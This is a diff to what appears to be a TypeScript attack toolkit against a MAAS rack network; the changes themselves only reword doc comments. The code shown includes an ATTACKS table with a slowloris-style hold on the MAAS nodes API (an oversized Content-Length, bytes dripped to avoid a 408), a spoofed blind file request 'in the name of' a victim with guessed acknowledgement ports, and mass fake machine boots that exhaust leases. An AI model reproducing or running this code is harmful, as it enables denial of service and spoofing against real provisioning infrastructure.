@@ -45,7 +45,7 @@ const NEW_PORTS = 3000;
 const BLIND_AGAIN_MS = 20_000;
 /** How soon a connection that was closed is opened again. */
 const AGAIN_MS = 10;
-/** One report is enough; what the others are asked for comes after several. */
+/** One report is enough; the bystanders ask only after several. */
 const SMALL_PATH_MS = 50;
 const SMALL_PATH_OCTETS = 552;
 /** How long between two octets of a handshake that takes longer than the region waits for it. */
@@ -96,7 +96,7 @@ async function flood(
 const everyAddress = (times = 1): Promise<UdpSocket[]> =>
   Promise.all(Array.from({ length: times }, () => addresses.map((address) => udp(address))).flat());
 
-/** Opens `count` connections from the addresses in turn, each again when it was closed; `greet` says what it sends. */
+/** Opens `count` connections from the addresses in turn, and reopens closed ones; `greet` gives the bytes that each sends. */
 async function holdConnections(
   port: number,
   count: number,
@@ -224,8 +224,8 @@ async function beginTransfers(perSecond: number): Promise<void> {
 }
 
 /**
- * Asks for a file in the name of `victim`, and guesses what it would acknowledge: at the ports near one that the rack took for a transfer
- * of this host's own. Says how many octets the requests have.
+ * Asks for a file in the name of `victim`, and guesses its acknowledgements: at the ports near one that the rack used for a transfer
+ * of this host. Returns the number of octets in the requests.
  */
 async function driveBlind(victim: string): Promise<void> {
   const own = await udp();
@@ -342,7 +342,7 @@ async function amendOthers(mac: string): Promise<void> {
   }
 }
 
-/** Boots as ever new machines, twelve at a time, and releases the lease of each once it is reported. */
+/** Boots as one new machine after another, twelve at a time, and releases the lease of each once it is reported. */
 async function bootAsNew(): Promise<void> {
   const booter = new Booter(rack, BROADCAST);
   await booter.open();
@@ -435,7 +435,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     const ofTheRack = addresses.filter((one) => one.startsWith(rack.replace(/\d+$/, '')));
     const greet = (socket: Socket): void => {
       socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 1900000']));
-      // More than what is ended with 408.
+      // More than the number that is ended with 408.
       drip(socket, 'a'.repeat(256), 1000);
     };
     return holdConnections(API_PORT, ofTheRack.length, greet, ofTheRack);
